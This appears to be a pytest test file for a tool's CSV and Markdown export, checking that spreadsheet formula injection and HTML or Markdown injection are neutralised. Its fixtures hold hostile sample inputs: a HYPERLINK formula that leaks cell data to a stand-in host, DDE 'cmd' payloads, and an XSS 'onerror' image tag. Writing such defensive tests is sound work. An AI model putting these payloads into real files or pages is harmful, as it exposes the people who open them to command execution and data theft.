"""Exports of a stored run whose texts came from anyone (a cell's name, a tool's error, a note):
in CSV a text a spreadsheet would run as a formula is prefixed with `'` and read as text, while
numbers, negative ones included, stay numbers; in Markdown no HTML, entity, code span, pipe or
line break of a text gets through as anything but text."""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from toolbench.cli.main import main
from toolbench.export import formats
from toolbench.record import store

RUNS = Path(__file__).parents[1] / "fixtures" / "runs"
FORMULAS = {  # cell name -> error text: each starts as a spreadsheet formula would
    '=HYPERLINK("http://example.invalid/?"&A1,"click")': "+cmd|' /C calc'!A0",
    "-2+3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "\r=1+1",
}
HTML = "<img src=x onerror=alert(1)> & `code` | cell\nnext row &amp; <b>bold</b>"


def export(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    code = main(["export", *args])
    out, err = capsys.readouterr()
    assert code == 0, err
    return out


@pytest.fixture
def untrusted(tmp_path: Path) -> Path:
    """The recorded pair-a run with hostile texts in its first cells' names, errors and notes,
    and one cell named like a negative number."""
    run = Path(shutil.copytree(RUNS / "pair-a", tmp_path / "run"))
    records = [json.loads(line) for line in (run / store.RESULTS).read_text().splitlines()]
    for record, (name, error) in zip(records, [*FORMULAS.items(), ("-1.5", HTML)]):
        record["identity"]["cell_id"] = name
        record["outcome"].update(status="failed", error=error)
    records[0]["notes"] = ["-note", "=1+2"]
    (run / store.RESULTS).write_text("".join(json.dumps(r) + "\n" for r in records))
    return run


def test_csv_formulas_are_read_as_text(untrusted: Path, capsys: pytest.CaptureFixture[str]):
    out = export(capsys, str(untrusted), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    cells = {row["identity.cell_id"]: row for row in rows}
    for name, error in FORMULAS.items():
        assert "'" + name in cells, sorted(cells)
        assert cells["'" + name]["outcome.error"] == "'" + error.replace("\r", "\n")
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(formats.FORMULA_STARTS) or value == "-1.5", (column, value)
    assert rows[0]["notes"] == "'-note\n=1+2"  # one cell, its lines together: the first makes it text


def test_csv_numbers_stay_numbers(untrusted: Path, capsys: pytest.CaptureFixture[str]):
    out = export(capsys, str(untrusted), "--format", "csv")
    back = pd.read_csv(io.StringIO(out))
    assert "-1.5" in set(back["identity.cell_id"].astype(str))  # a name that is a number: not prefixed
    for column in ("counts.requests_total", "latency.mean_ms", "rates.rps_ok"):  # read as numbers, not text
        assert pd.api.types.is_numeric_dtype(back[column]), column


def test_a_negative_number_column_is_written_as_a_number():
    frame = pd.DataFrame({"delta_ms": pd.array([-1.5, 2.0, None], dtype="Float64"),
                          "count": pd.array([-3, 4, None], dtype="Int64"),
                          "name": pd.array(["-3", "-x", None], dtype="string")})
    text = formats._text(frame, "csv")
    assert text.splitlines() == ["delta_ms,count,name", "-1.5,-3,-3", "2.0,4,'-x", ",,"]


def test_markdown_cells_are_text(untrusted: Path, capsys: pytest.CaptureFixture[str]):
    out = export(capsys, str(untrusted), "--format", "markdown", "--columns", "identity.cell_id,outcome.error")
    lines = out.splitlines()
    records = (untrusted / store.RESULTS).read_text().splitlines()
    assert len(lines) == 2 + len(records)  # no text broke a row in two
    row = next(line for line in lines if line.startswith("| -1.5 |"))
    assert row == ("| -1.5 | &lt;img src=x onerror=alert(1)&gt; &amp; \\`code\\` \\| cell<br>next row &amp;amp; "
                   "&lt;b&gt;bold&lt;/b&gt; |")
    for line in lines:
        assert "<img" not in line and "<b>" not in line
        assert len(re.findall(r"(?<!\\)\|", line)) == 3  # two cells: every other pipe is escaped
